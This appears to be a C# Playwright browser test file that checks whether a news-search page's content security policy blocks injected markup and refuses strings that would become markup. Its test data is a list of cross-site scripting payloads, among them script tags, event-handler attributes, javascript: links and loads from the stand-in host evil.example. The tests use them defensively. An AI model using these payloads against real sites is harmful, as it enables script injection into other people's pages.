using Microsoft.Playwright;

namespace SearchNews.Browser.Tests.Hostile;

/// <summary>If text became markup after all, the content security policy of the page would keep it from doing anything.</summary>
public sealed class PolicyTests(BrowserFixture browser) : BrowserTest(browser)
{
    private readonly BrowserFixture _browser = browser;

    [Theory]
    [InlineData("<script>window.ran=1</script>")]
    [InlineData("<script type=module>window.ran=1</script>")]
    [InlineData("<img src=/nothing.png onerror='window.ran=1'>")]
    [InlineData("<svg onload='window.ran=1'></svg>")]
    [InlineData("<iframe srcdoc='<script>parent.ran=1</script>'></iframe>")]
    [InlineData("<script src='http://evil.example/x.js'></script>")]
    [InlineData("<script src='data:text/javascript,window.ran=1'></script>")]
    [InlineData("<link rel=stylesheet href='http://evil.example/x.css'>")]
    [InlineData("<object data='http://evil.example/x.swf'></object>")]
    [InlineData("<video src='http://evil.example/x.mp4'></video>")]
    [InlineData("<div style='position:fixed'>x</div>")]
    [InlineData("<base href='http://evil.example/'>")]
    [InlineData("<form action='http://evil.example/'><button id=go>x</button></form>", true)]
    [InlineData("<a id=go href='javascript:window.ran=1'>x</a>", true)]
    public async Task Policy_MarkupPutIntoThePage_IsBlocked(string markup, bool click = false)
    {
        await using Visitor visitor = await OpenWithAsync(markup);

        if (click) await visitor.Page.Locator("#go").DispatchEventAsync("click");
        await visitor.Page.WaitForFunctionAsync("() => [window, ...Array.from(window)].some(w => w.__violations.length > 0)");

        (await visitor.EvaluateAsync<bool>("() => window.ran !== undefined")).ShouldBeFalse();
        visitor.Page.Url.ShouldStartWith(visitor.Address.AbsoluteUri);
        visitor.Faults.ShouldNotContain(f => f.StartsWith("request", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("document.body.innerHTML = '<b>x</b>'")]
    [InlineData("document.body.insertAdjacentHTML('beforeend', '<b>x</b>')")]
    [InlineData("document.createElement('script').text = '1'")]
    [InlineData("new DOMParser().parseFromString('<b>x</b>', 'text/html')")]
    [InlineData("document.write('<b>x</b>')")]
    public async Task Policy_StringsThatBecomeMarkup_AreRefused(string script)
    {
        await using Visitor visitor = await OpenWithAsync("");

        (await visitor.EvaluateAsync<string>($"() => {{ try {{ {script}; return 'done'; }} catch (e) {{ return e.name; }} }}")).ShouldBe("TypeError");
    }

    [Fact]
    public async Task Policy_PageItself_BlocksNothing()
    {
        Visitor visitor = await OpenAsync("/?q=mars");

        await visitor.ShouldViolateNoPolicyAsync();
    }

    /// <summary>A visitor of a page into which somebody put markup on the way, under the page's own policy. What it tries is blocked, and so the console is not clean.</summary>
    private async Task<Visitor> OpenWithAsync(string markup)
    {
        Visitor visitor = await _browser.VisitAsync(await AddressAsync(), new VisitorOptions());
        await visitor.Page.RouteAsync("**/?q=mars", async route =>
        {
            IAPIResponse response = await route.FetchAsync();
            string page = await response.TextAsync();
            page.ShouldContain("</main>");
            await route.FulfillAsync(new RouteFulfillOptions { Response = response, Body = page.Replace("</main>", markup + "</main>", StringComparison.Ordinal) });
        });
        await visitor.OpenAsync("/?q=mars");
        return visitor;
    }
}
